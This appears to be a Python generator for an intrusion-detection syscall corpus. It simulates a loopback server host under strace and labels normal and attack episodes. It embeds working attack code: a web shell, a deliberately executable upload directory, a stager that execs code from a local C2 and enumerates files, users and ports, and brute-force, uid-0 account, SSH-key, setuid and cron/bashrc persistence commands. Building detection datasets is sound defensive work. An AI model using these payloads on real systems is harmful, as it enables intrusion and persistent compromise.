#!/usr/bin/env python3
"""A pooled server-host syscall corpus in the style of the public host benchmark (ADFA-LD-like).

A loopback "server host" runs forking services (a web server with CGI scripts and an upload form, an
SSH-like login daemon that gives a shell, an FTP-like file service) under `strace -f -ff -n`, so every
process the host runs is one trace of syscall NUMBERS (no program names: the model is pooled over all
programs). Local cron/admin jobs run under strace too. Clients (legitimate users and the attacker) are
remote in spirit: their own processes are not traced, only what the host does for them.

Episodes, each one labelled as a whole (every host process it caused):
  normal: web browsing (static pages, CGI status/search/guestbook/report, normal uploads), login
          sessions running admin commands (with the odd mistyped password), FTP sessions, cron jobs
          (log rotation, backups, cleanup, stats), admin shells.
  attack: brute force against the login and FTP daemons (hydra-like: three guesses per connection), a web shell uploaded through the upload
          form and driven with commands, a meterpreter-like stager (loopback C2 sends python code that
          enumerates, reads files, spawns a shell, scans ports), adduser of a uid-0 account and an SSH
          key into a scratch root (useradd -P), privilege-escalation probing, cron/rc persistence.
Splits: normal episodes go 1:1:1 to train/, val/normal, test/normal; attack episodes alternate
val/attack/<kind> and test/attack/<kind>. Tune on val, report test.

Layouts:
  default:      one file per host process, `{episode}-{k}.txt`: its syscall numbers on one line (ADFA-LD).
  --recordings: one labelled recording per episode, `{episode}.strace`, in the style of LID-DS: everything
                the tracer saw. The host runs under `strace -f -ff -ttt -s 128` (names, decoded arguments,
                absolute times; no -n) and the episode's per-process files are merged into the layout of
                `strace -f -ttt` writing one file: each line prefixed by its pid and two spaces, all
                lines sorted by time (clone/fork/execve/openat/connect... lines as strace printed them).
                The daemon masters' own traces are left out, so a handler a daemon forks (which never
                execs) has no clone line for it in the recording: its identity is unknown, as expected.
                A call is one whole line at its start time (-ff writes no <unfinished ...>/<... resumed>).
                The host of a recording gets a plain environment of its own (system PATH, no variables of
                whoever runs this), and its site is readable by nobody so that, run as root, the CGIs (the
                web shell too) still run after the web server drops them to nobody.
  The episodes, the random choices and the splits are the same in both layouts for the same seed.

Only loopback and a private scratch directory are used; everything is removed at the end.
usage: server-host.py OUT_DIR [--normal 240] [--attack 60] [--seed 1] [--recordings]
"""
import argparse
import os
import random
import re
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time

PY = '/usr/bin/python3'

SERVICES = r'''
import hashlib, http.server, os, socketserver, subprocess, sys, time
root, web_port, login_port, ftp_port = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4])

class Web(socketserver.ForkingMixIn, http.server.HTTPServer):
    allow_reuse_address = True
class Handler(http.server.CGIHTTPRequestHandler):
    cgi_directories = ['/cgi-bin', '/uploads']  # the misconfiguration: uploads are executable
    def log_message(self, fmt, *args):
        with open(os.path.join(root, 'log', 'access.log'), 'a') as f:
            f.write('%s - %s\n' % (self.address_string(), fmt % args))
    def translate_path(self, path):
        rel = path.split('?', 1)[0].lstrip('/')
        return os.path.join(root, 'www', rel)

def users():
    out = {}
    for line in open(os.path.join(root, 'etc', 'shadow')):
        u, salt, h = line.strip().split(':')[:3]
        out[u] = (salt, h)
    return out

def check(user, pw):
    u = users().get(user)
    ok = u is not None and hashlib.pbkdf2_hmac('sha256', pw.encode(), u[0].encode(), 2000).hex() == u[1]
    with open(os.path.join(root, 'log', 'auth.log'), 'a') as f:
        f.write('%s %s %s\n' % (time.strftime('%H:%M:%S'), 'Accepted' if ok else 'Failed', user))
    if not ok: time.sleep(0.05)
    return ok

class Login(socketserver.StreamRequestHandler):
    def handle(self):
        self.wfile.write(b'SSH-2.0-sim\n')
        for _ in range(3):
            line = self.rfile.readline().decode().split()
            if len(line) < 2: return
            if check(line[0], line[1]): break
            self.wfile.write(b'denied\n')
        else:
            return
        self.wfile.write(b'welcome\n')
        home = os.path.join(root, 'home')
        p = subprocess.Popen(['/bin/sh'], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, cwd=home)
        data = b''
        while True:
            line = self.rfile.readline()
            if not line or line.strip() == b'exit': break
            data += line
        out, _ = p.communicate(data, timeout=30)
        self.wfile.write(out)

class Ftp(socketserver.StreamRequestHandler):
    def handle(self):
        base = os.path.join(root, 'ftp')
        self.wfile.write(b'220 ready\n')
        user, authed, fails = None, False, 0
        for raw in self.rfile:
            cmd, _, arg = raw.decode().strip().partition(' ')
            cmd = cmd.upper()
            if cmd == 'QUIT': self.wfile.write(b'221 bye\n'); return
            elif cmd == 'USER': user = arg; self.wfile.write(b'331 password\n')
            elif cmd == 'PASS':
                authed = check(user or '', arg)
                self.wfile.write(b'230 ok\n' if authed else b'530 denied\n')
                if not authed:
                    fails += 1
                    if fails >= 3: return
            elif not authed: self.wfile.write(b'530 login first\n')
            elif cmd == 'LIST': self.wfile.write(('\n'.join(sorted(os.listdir(base))) + '\n226\n').encode())
            elif cmd == 'RETR':
                with open(os.path.join(base, os.path.basename(arg)), 'rb') as f: d = f.read()
                self.wfile.write(b'150 %d\n' % len(d) + d + b'\n226\n')
            elif cmd == 'STOR':
                n = int(self.rfile.readline())
                with open(os.path.join(base, os.path.basename(arg)), 'wb') as f: f.write(self.rfile.read(n))
                self.wfile.write(b'226 stored\n')

class Fork(socketserver.ForkingMixIn, socketserver.TCPServer):
    allow_reuse_address = True

for srv in (Fork(('127.0.0.1', login_port), Login), Fork(('127.0.0.1', ftp_port), Ftp)):
    if os.fork() == 0:
        srv.serve_forever()
Web(('127.0.0.1', web_port), Handler).serve_forever()
'''

CGI = {
    'status.sh': '#!/bin/sh\necho "Content-Type: text/plain"\necho\nuptime\ndf -h / | tail -1\ncat /proc/loadavg\n',
    'search.py': '#!/usr/bin/python3\nimport os, re, urllib.parse\nq = urllib.parse.parse_qs(os.environ.get("QUERY_STRING", "")).get("q", ["a"])[0]\nprint("Content-Type: text/plain\\n")\nd = os.path.join(os.environ["SITE_ROOT"], "data")\nfor n in sorted(os.listdir(d)):\n    with open(os.path.join(d, n)) as f:\n        c = sum(1 for line in f if re.search(re.escape(q), line))\n    if c: print(n, c)\n',
    'guestbook.py': '#!/usr/bin/python3\nimport os, sys, html\np = os.path.join(os.environ["SITE_ROOT"], "data", "guestbook.txt")\nif os.environ.get("REQUEST_METHOD") == "POST":\n    body = sys.stdin.read(int(os.environ.get("CONTENT_LENGTH") or 0))\n    with open(p, "a") as f: f.write(html.escape(body)[:200] + "\\n")\nprint("Content-Type: text/html\\n")\nwith open(p) as f: print("<br>".join(f.read().splitlines()[-10:]))\n',
    'report.py': '#!/usr/bin/python3\nimport os, sqlite3\ndb = sqlite3.connect(os.path.join(os.environ["SITE_ROOT"], "data", "shop.db"))\nprint("Content-Type: text/plain\\n")\nfor row in db.execute("select item, sum(qty) from orders group by item order by 2 desc limit 5"): print(*row)\n',
    'upload.py': '#!/usr/bin/python3\nimport os, sys, urllib.parse\nq = urllib.parse.parse_qs(os.environ.get("QUERY_STRING", ""))\nname = os.path.basename(q.get("name", ["file.txt"])[0])\nbody = sys.stdin.buffer.read(int(os.environ.get("CONTENT_LENGTH") or 0))\np = os.path.join(os.environ["SITE_ROOT"], "www", "uploads", name)\nwith open(p, "wb") as f: f.write(body)\nos.chmod(p, 0o755)\nprint("Content-Type: text/plain\\n\\nstored", name, len(body))\n',
}

WEB_SHELL = b'#!/usr/bin/python3\nimport os, urllib.parse\nq = urllib.parse.parse_qs(os.environ.get("QUERY_STRING", ""))\nprint("Content-Type: text/plain\\n")\nprint(os.popen(q.get("c", ["id"])[0]).read())\n'

STAGER = "import socket,struct;s=socket.create_connection(('127.0.0.1',%d));n=struct.unpack('>I',s.recv(4))[0];d=b''\nwhile len(d)<n: d+=s.recv(n-len(d))\nexec(d,{'s':s})"

# The "meterpreter" stage: what the C2 sends the stager (runs in the stager's process).
STAGE = r'''
import os, platform, socket, subprocess, glob, pwd
def send(x): s.sendall((str(x) + '\n').encode())
send(platform.uname()); send(os.getuid()); send(os.getcwd())
for p in ('/etc/passwd', '/etc/hostname', '/proc/version', '/etc/os-release'):
    try: send(open(p).read()[:200])
    except Exception as e: send(e)
send(glob.glob('/home/*') + glob.glob(os.path.join(os.environ.get('SITE_ROOT', '/'), '*')))
send([e.pw_name for e in pwd.getpwall()][:5])
for pid in os.listdir('/proc')[:40]:
    try: send(open('/proc/%s/cmdline' % pid).read()[:60])
    except Exception: pass
for port in range(LO_PORT, LO_PORT + 12):
    c = socket.socket(); c.settimeout(0.05)
    send((port, c.connect_ex(('127.0.0.1', port)))); c.close()
send(subprocess.run(['/bin/sh', '-c', 'id; uname -a; ls -la /tmp | head'], capture_output=True).stdout)
if os.fork() == 0:
    os.setsid(); send('migrated %d' % os.getpid()); os._exit(0)
os.wait()
'''


def pbkdf(pw, salt):
    import hashlib
    return hashlib.pbkdf2_hmac('sha256', pw.encode(), salt.encode(), 2000).hex()


class Host:
    def __init__(self, seed, recordings=False):
        self.rng = random.Random(seed)
        self.recordings = recordings
        # the tracer of the services and local(): -n numbers for the default layout; names, decoded
        # arguments (strings up to 128 bytes) and absolute times for recordings
        self.strace = ['strace', '-qq', '-f', '-ff', '-ttt', '-s', '128'] if recordings else ['strace', '-qq', '-n', '-f', '-ff']
        # a recording's host keeps its site where a server's would be (not below /tmp, where every CGI would be
        # a program run from a temporary directory); what an attacker drops still goes to /tmp
        self.scratch = tempfile.mkdtemp(prefix='vigil-serverhost-', dir='/var/lib' if recordings else None)
        self.drops = tempfile.mkdtemp(prefix='vigil-drops-') if recordings else self.scratch
        self.raw = os.path.join(self.scratch, 'raw')
        base = 20000 + self.rng.randrange(20000)
        self.web, self.login, self.ftp, self.c2 = base, base + 1, base + 2, base + 3
        self.users = {'alice': 'correct-horse', 'bob': 'tr0ub4dor', 'root': 'S3cure!root', 'deploy': 'd3ploy-key'}
        self.procs = []
        self.setup()
        if recordings:
            self.let_cgi_in()

    def p(self, *a):
        return os.path.join(self.scratch, 'site', *a)

    def setup(self):
        r = self.rng
        for d in ('www/cgi-bin', 'www/uploads', 'www/img', 'data', 'log', 'etc', 'home', 'ftp', 'backup', 'fakeroot/etc', 'fakeroot/root/.ssh', 'fakeroot/etc/cron.d'):
            os.makedirs(self.p(d), exist_ok=True)
        os.makedirs(self.raw)
        for name, text in CGI.items():
            with open(self.p('www/cgi-bin', name), 'w') as f:
                f.write(text)
            os.chmod(self.p('www/cgi-bin', name), 0o755)
        with open(self.p('www/index.html'), 'w') as f:
            f.write('<html><body>' + 'welcome ' * 50 + '</body></html>')
        for i in range(8):
            with open(self.p('www', f'page{i}.html'), 'w') as f:
                f.write('<p>' + 'lorem ipsum ' * r.randrange(10, 400) + '</p>')
            with open(self.p('www/img', f'i{i}.png'), 'wb') as f:
                f.write(os.urandom(r.randrange(1000, 60000)))
        for i in range(12):
            with open(self.p('data', f'doc{i}.txt'), 'w') as f:
                f.write('\n'.join(' '.join(r.choice(['alpha', 'beta', 'gamma', 'delta', 'error', 'ok', 'user']) for _ in range(8)) for _ in range(r.randrange(20, 300))))
            with open(self.p('ftp', f'report{i}.csv'), 'w') as f:
                f.write('\n'.join(f'{j},{r.randrange(1000)}' for j in range(r.randrange(10, 200))))
        open(self.p('data', 'guestbook.txt'), 'w').write('hello\n')
        import sqlite3
        db = sqlite3.connect(self.p('data', 'shop.db'))
        db.execute('create table orders(item text, qty int)')
        db.executemany('insert into orders values(?,?)', [(r.choice(['pen', 'cup', 'hat', 'mug', 'bag']), r.randrange(1, 9)) for _ in range(500)])
        db.commit()
        db.close()
        with open(self.p('etc', 'shadow'), 'w') as f:
            for u, pw in self.users.items():
                salt = f'{r.randrange(1 << 30):x}'
                f.write(f'{u}:{salt}:{pbkdf(pw, salt)}\n')
        open(self.p('log', 'access.log'), 'w').write('start\n')
        open(self.p('log', 'auth.log'), 'w').write('start\n')
        open(self.p('home', 'notes.txt'), 'w').write('deploy on friday\n' * 20)
        open(self.p('fakeroot/etc/passwd'), 'w').write('root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n')
        open(self.p('fakeroot/etc/group'), 'w').write('root:x:0:\nwww-data:x:33:\nusers:x:100:\n')
        open(self.p('fakeroot/etc/shadow'), 'w').write('root:*:19000:0:99999:7:::\nwww-data:*:19000:0:99999:7:::\n')
        open(self.p('fakeroot/etc/gshadow'), 'w').write('root:*::\nusers:*::\n')
        self.words = [f'pass{i}' for i in range(400)] + ['123456', 'password', 'qwerty', 'letmein', 'admin', 'welcome']

    def let_cgi_in(self):
        """Run as root, the web server's CGI children drop to nobody before their exec (CGIHTTPRequestHandler),
        and nobody cannot enter the private scratch directory: every CGI, the web shell too, would fail with
        EACCES. Let nobody read the site and write the upload directory and the guestbook (recordings only:
        the default layout keeps its behaviour; as a non-root user the setuid fails and nothing changes)."""
        os.chmod(self.scratch, 0o711)
        for d, _, files in os.walk(self.p()):
            os.chmod(d, os.stat(d).st_mode | 0o005)
            for f in files:
                os.chmod(os.path.join(d, f), os.stat(os.path.join(d, f)).st_mode | 0o004)
        os.chmod(self.p('www/uploads'), 0o1777)
        os.chmod(self.p('data', 'guestbook.txt'), 0o666)

    def env(self):
        """The environment of the host's processes. Recordings show paths and strings (a CGI's environment,
        a web shell printing it), so there the host gets a plain system environment of its own rather than
        the one of whoever runs this script (its PATH with pyenv shims and the like)."""
        if self.recordings:
            return {'PATH': '/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin', 'HOME': '/root', 'LANG': 'C.UTF-8', 'SITE_ROOT': self.p()}
        return dict(os.environ, SITE_ROOT=self.p())

    def start(self):
        env = self.env()
        svc = os.path.join(self.scratch, 'services.py')
        open(svc, 'w').write(SERVICES)
        self.services = subprocess.Popen([*self.strace, '-o', os.path.join(self.raw, 'srv'), PY, svc, self.p(), str(self.web), str(self.login), str(self.ftp)], env=env, cwd=self.p(), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
        for port in (self.web, self.login, self.ftp):
            for _ in range(100):
                try:
                    socket.create_connection(('127.0.0.1', port), 0.2).close()
                    break
                except OSError:
                    time.sleep(0.1)
        time.sleep(0.5)
        # the three service masters (and anything already there) are the host's long-lived daemons, not episode traces
        self.daemon_files = set(os.listdir(self.raw))
        self.c2_thread = threading.Thread(target=self.c2_serve, daemon=True)
        self.c2_thread.start()

    def stop(self):
        try:
            os.killpg(self.services.pid, signal.SIGTERM)
        except ProcessLookupError:
            pass
        self.services.wait(10)
        shutil.rmtree(self.scratch, ignore_errors=True)
        shutil.rmtree(self.drops, ignore_errors=True)

    # --- the attacker's C2 (remote: not traced)
    def c2_serve(self):
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind(('127.0.0.1', self.c2))
        s.listen(20)
        while True:
            c, _ = s.accept()
            stage = STAGE.replace('LO_PORT', str(self.web - 6)).encode()
            try:
                c.sendall(len(stage).to_bytes(4, 'big') + stage)
                c.settimeout(10)
                while c.recv(65536):
                    pass
            except OSError:
                pass
            c.close()

    # --- clients
    def http(self, method, path, body=b''):
        try:
            c = socket.create_connection(('127.0.0.1', self.web), 5)
            c.sendall(f'{method} {path} HTTP/1.0\r\nHost: x\r\nContent-Length: {len(body)}\r\n\r\n'.encode() + body)
            c.settimeout(20)
            while c.recv(65536):
                pass
            c.close()
        except OSError:
            pass

    def session(self, user, pw, commands, typo=False, guesses=()):
        try:
            c = socket.create_connection(('127.0.0.1', self.login), 5)
            c.settimeout(30)
            f = c.makefile('rwb')
            f.readline()
            for wrong in ([pw[:-1]] if typo else []) + list(guesses):
                f.write(f'{user} {wrong}\n'.encode())
                f.flush()
                if f.readline().strip() != b'denied':
                    c.close()
                    return
            f.write(f'{user} {pw}\n'.encode())
            f.flush()
            if f.readline().strip() != b'welcome':
                c.close()
                return
            for cmd in commands:
                f.write(cmd.encode() + b'\n')
            hang_up(c, f, b'exit\n')
        except OSError:
            pass

    def ftp_session(self, user, pw, ops, guesses=()):
        try:
            c = socket.create_connection(('127.0.0.1', self.ftp), 5)
            c.settimeout(10)
            f = c.makefile('rwb')
            f.readline()
            for line in [x for g in guesses for x in (f'USER {user}', f'PASS {g}')] + [f'USER {user}', f'PASS {pw}']:
                f.write(line.encode() + b'\n')
                f.flush()
                f.readline()
            for op in ops:
                if isinstance(op, tuple):
                    f.write(f'STOR {op[0]}\n{len(op[1])}\n'.encode() + op[1])
                else:
                    f.write(op.encode() + b'\n')
                f.flush()
                time.sleep(0.02)
            hang_up(c, f, b'QUIT\n')
        except OSError:
            pass

    def local(self, argv):
        """A host-local process (cron/admin/attacker's dropped tool), traced."""
        env = self.env()
        subprocess.run([*self.strace, '-o', os.path.join(self.raw, 'loc'), *argv], env=env, cwd=self.p(), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL, timeout=60)

    # --- normal behaviour
    ADMIN = ['ls -la', 'df -h', 'ps aux | head -20', 'cat notes.txt | head -5', 'uptime', 'free -m', 'who', 'tail -n 20 ../log/access.log',
             'grep -c Failed ../log/auth.log', 'du -sh ../data', 'tar czf ../backup/home.tgz .', 'wc -l ../data/*.txt', 'date', 'id',
             'find ../www -name "*.html" | wc -l', 'sort ../ftp/report1.csv | head -3', 'python3 -c "print(sum(range(1000)))"']

    def normal(self):
        r = self.rng
        kind = r.choice(['web', 'web', 'web', 'webpost', 'login', 'login', 'ftp', 'cron', 'cron', 'admin'])
        if kind == 'web':
            for _ in range(r.randrange(2, 7)):
                self.http('GET', r.choice(['/index.html', f'/page{r.randrange(8)}.html', f'/img/i{r.randrange(8)}.png', '/missing.html', '/cgi-bin/status.sh',
                                           f'/cgi-bin/search.py?q={r.choice(["alpha", "error", "zzz"])}', '/cgi-bin/guestbook.py', '/cgi-bin/report.py']))
        elif kind == 'webpost':
            self.http('POST', '/cgi-bin/guestbook.py', f'name=guest{r.randrange(99)}&msg=hello+there'.encode())
            if r.random() < 0.5:
                self.http('POST', f'/cgi-bin/upload.py?name=photo{r.randrange(99)}.txt', os.urandom(r.randrange(100, 5000)).hex().encode())
            self.http('GET', '/cgi-bin/report.py')
        elif kind == 'login':
            user = r.choice(['alice', 'bob', 'deploy', 'root'])
            if r.random() < 0.05:  # a forgotten password: three failures before the right one
                for _ in range(3):
                    self.session(user, self.users[user].upper(), ['id'])
            self.session(user, self.users[user], r.sample(self.ADMIN, r.randrange(1, 5)), typo=r.random() < 0.15)
        elif kind == 'ftp':
            user = r.choice(['alice', 'bob', 'deploy'])
            ops = ['LIST'] + [f'RETR report{r.randrange(12)}.csv' for _ in range(r.randrange(0, 3))]
            if r.random() < 0.4:
                ops.append((f'up{r.randrange(99)}.csv', '\n'.join(str(r.randrange(99)) for _ in range(50)).encode()))
            if r.random() < 0.15:  # a mistyped password first, as users do
                self.ftp_session(user, self.users[user][:-1], ['LIST'])
            self.ftp_session(user, self.users[user], ops)
        elif kind == 'cron':
            job = r.choice([
                ['sh', '-c', 'cd log && cp access.log access.log.1 && gzip -f access.log.1 && echo rotated >> auth.log'],
                ['tar', 'czf', 'backup/data.tgz', 'data'],
                ['find', '.', '-name', '*.tgz', '-mmin', '+60', '-print'],
                ['sh', '-c', "awk '{print $1}' log/access.log | sort | uniq -c | sort -rn | head -3"],
                [PY, '-c', 'import sqlite3; db = sqlite3.connect("data/shop.db"); print(db.execute("select count(*) from orders").fetchone()); db.execute("vacuum")'],
                ['sh', '-c', 'grep -c Failed log/auth.log; grep -c Accepted log/auth.log'],
                ['sh', '-c', 'ls www/uploads | wc -l; du -s www'],
            ])
            self.local(job)
        else:
            self.local(['sh', '-c', r.choice(['ps aux | grep -c python', 'df -h | head -3', 'tail -n 5 log/auth.log', 'ls -l www/cgi-bin', 'cat /proc/loadavg', 'netstat -tln 2>/dev/null || cat /proc/net/tcp | head -5'])])

    # --- attacks
    KINDS = ['bruteforce-login', 'bruteforce-ftp', 'web-shell', 'meterpreter', 'adduser', 'privesc-probe', 'persistence']

    def attack(self, kind):
        r = self.rng
        if kind == 'bruteforce-login':
            user = r.choice(['root', 'admin', 'alice'])
            words = r.sample(self.words, 3 * r.randrange(6, 14))
            for i in range(0, len(words), 3):  # as hydra: guesses per connection until the daemon drops it
                self.session(user, words[i + 2], ['id'], guesses=words[i:i + 2])
            if r.random() < 0.5:
                self.session('root', self.users['root'], ['id', 'uname -a'])
        elif kind == 'bruteforce-ftp':
            user = r.choice(['root', 'ftp', 'bob'])
            words = r.sample(self.words, 3 * r.randrange(6, 14))
            for i in range(0, len(words), 3):
                self.ftp_session(user, words[i + 2], ['LIST'], guesses=words[i:i + 2])
        elif kind == 'web-shell':
            name = f'img{r.randrange(999)}.py'
            self.http('POST', f'/cgi-bin/upload.py?name={name}', WEB_SHELL)
            for c in r.sample(['id', 'uname -a', 'cat /etc/passwd', 'ls -la /', 'ps aux', 'cat /proc/net/tcp', 'find / -maxdepth 2 -perm -4000 2>/dev/null',
                               'ls -la ../../etc', 'cat ../../etc/shadow', 'python3 -c "import os; print(os.environ)"', 'whoami; hostname'], r.randrange(3, 7)):
                self.http('GET', f'/uploads/{name}?c=' + c.replace(' ', '%20').replace('/', '%2F').replace(';', '%3B').replace('"', '%22'))
        elif kind == 'meterpreter':
            stager = STAGER % self.c2
            if r.random() < 0.5:  # delivered through a stolen login
                drop = os.path.join(self.drops, f'.s{r.randrange(999)}.py')
                open(drop, 'w').write(stager)
                self.session('deploy', self.users['deploy'], [f'python3 {drop}; rm -f {drop}'])
            else:  # a dropped payload the host runs
                path = os.path.join(self.drops, f'.upd{r.randrange(999)}')
                open(path, 'w').write(stager)
                self.local([PY, path])
        elif kind == 'adduser':
            root = self.p('fakeroot')
            self.shell('root', 2, 5, [
                f'useradd -P {root} -M -o -u 0 -g 0 -s /bin/bash toor{r.randrange(99)}',
                f'useradd -P {root} -m -d {root}/home/svc{r.randrange(99)} -s /bin/sh svc{r.randrange(99)}',
                f'echo "ssh-ed25519 AAAAC3Nza{r.randrange(10**6)} x@y" >> {root}/root/.ssh/authorized_keys',
                f'grep toor {root}/etc/passwd; tail -2 {root}/etc/shadow',
                f'usermod -P {root} -aG users root 2>/dev/null || true'])
        elif kind == 'privesc-probe':
            self.shell(r.choice(['alice', 'bob']), 3, 6, [
                'id; sudo -n -l 2>/dev/null', 'find / -xdev -maxdepth 3 -perm -4000 -type f 2>/dev/null | head', 'cat /etc/crontab /etc/cron.d/* 2>/dev/null | head',
                'grep Cap /proc/self/status', 'ls -la /root /etc/sudoers.d 2>/dev/null', 'uname -a; cat /proc/version', 'getcap -r /usr/bin 2>/dev/null | head',
                'cat /etc/passwd | cut -d: -f1,7', 'find / -xdev -maxdepth 3 -writable -type d 2>/dev/null | head', 'env | grep -i pass'])
        elif kind == 'persistence':
            root = self.p('fakeroot')
            self.shell('root', 2, 5, [
                f"echo '* * * * * root python3 -c \"import socket\"' > {root}/etc/cron.d/update",
                f'echo "nohup /tmp/.x &" >> {root}/root/.bashrc',
                f'cp /bin/sh {root}/tmp_sh 2>/dev/null; chmod 4755 {root}/tmp_sh',
                f'ln -sf /dev/null {root}/root/.bash_history',
                f'touch -d "2020-01-01" {root}/etc/cron.d/update 2>/dev/null || true'])

    def shell(self, user, lo, hi, options):
        """A logged-in session running between lo and hi−1 of the options."""
        self.session(user, self.users[user], self.rng.sample(options, self.rng.randrange(lo, hi)))

    def collect(self, dest, name):
        """Move the episode's finished per-process traces into dest (syscall numbers, one line)."""
        if self.recordings:
            return self.collect_recording(dest, name)
        time.sleep(0.4)
        n = 0
        for f in sorted(os.listdir(self.raw)):
            if f in self.daemon_files:
                continue
            path = os.path.join(self.raw, f)
            nums = []
            with open(path, errors='replace') as fh:
                for line in fh:
                    m = NUM.match(line)
                    if m:
                        nums.append(m.group(1))
            os.unlink(path)
            if not nums:
                continue
            os.makedirs(dest, exist_ok=True)
            with open(os.path.join(dest, f'{name}-{n}.txt'), 'w') as out:
                out.write(' '.join(nums) + '\n')
            n += 1
        return n

    def collect_recording(self, dest, name):
        """Merge the episode's finished per-process traces (the same files collect() takes) into one
        recording dest/{name}.strace in the layout of `strace -f -ttt -o FILE`: `PID  TIME call(...) = ret`,
        every line of every process sorted by time (stable: a process's lines keep their order)."""
        time.sleep(0.4)
        lines = []  # (time, text); a line without a time (an exit notice) takes its process's previous time
        for f in sorted(os.listdir(self.raw), key=trace_order):
            if f in self.daemon_files:
                continue
            path = os.path.join(self.raw, f)
            pid = f.rpartition('.')[2]
            with open(path, errors='replace') as fh:
                text = fh.read().splitlines()
            os.unlink(path)
            t, waiting = None, []
            for line in text:
                m = TIME.match(line)
                if m:
                    t = (int(m.group(1)), int(m.group(2).ljust(6, '0')))
                    for w in waiting:  # untimed lines before the process's first time
                        lines.append((t, w))
                    waiting = []
                if t is None:
                    waiting.append(f'{pid}  {line}')
                else:
                    lines.append((t, f'{pid}  {line}'))
            lines.extend(((0, 0), w) for w in waiting)
        if not lines:
            return 0
        lines.sort(key=lambda x: x[0])
        os.makedirs(dest, exist_ok=True)
        with open(os.path.join(dest, f'{name}.strace'), 'w') as out:
            out.writelines(line + '\n' for _, line in lines)
        return 1


def trace_order(f):
    """Per-process trace files (`srv.PID`, `loc.PID`) by prefix and numeric pid."""
    prefix, _, pid = f.rpartition('.')
    return (prefix, int(pid)) if pid.isdigit() else (f, -1)


def hang_up(c, f, last):
    """Send the client's last line and read until the server closes."""
    f.write(last)
    f.flush()
    while f.read(65536):
        pass
    c.close()


NUM = re.compile(r'^\[\s*(\d+)\] ')
TIME = re.compile(r'^(\d+)\.(\d+) ')  # strace -ttt: seconds.microseconds


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument('out')
    ap.add_argument('--normal', type=int, default=240)
    ap.add_argument('--attack', type=int, default=60)
    ap.add_argument('--seed', type=int, default=1)
    ap.add_argument('--recordings', action='store_true', help='one strace -f -ttt recording per episode (LID-DS-like) instead of one syscall-number file per process')
    a = ap.parse_args()
    shutil.rmtree(a.out, ignore_errors=True)
    host = Host(a.seed, a.recordings)
    try:
        host.start()
        # attack episodes are interleaved with normal ones, as on a live host
        plan = ['n'] * a.normal + ['a'] * a.attack
        host.rng.shuffle(plan)
        ni = ai = 0
        for i, what in enumerate(plan):
            if what == 'n':
                host.normal()
                split = ['train', 'val/normal', 'test/normal'][ni % 3]
                host.collect(os.path.join(a.out, split), f'n{i}')
                ni += 1
            else:
                kind = host.KINDS[ai % len(host.KINDS)]
                host.attack(kind)
                split = ['val', 'test'][(ai // len(host.KINDS)) % 2]
                host.collect(os.path.join(a.out, split, 'attack', kind), f'a{i}')
                ai += 1
    finally:
        host.stop()
    for d in ('train', 'val/normal', 'val/attack', 'test/normal', 'test/attack'):
        p = os.path.join(a.out, d)
        print(d, sum(len(fs) for _, _, fs in os.walk(p)) if os.path.isdir(p) else 0)


if __name__ == '__main__':
    main()
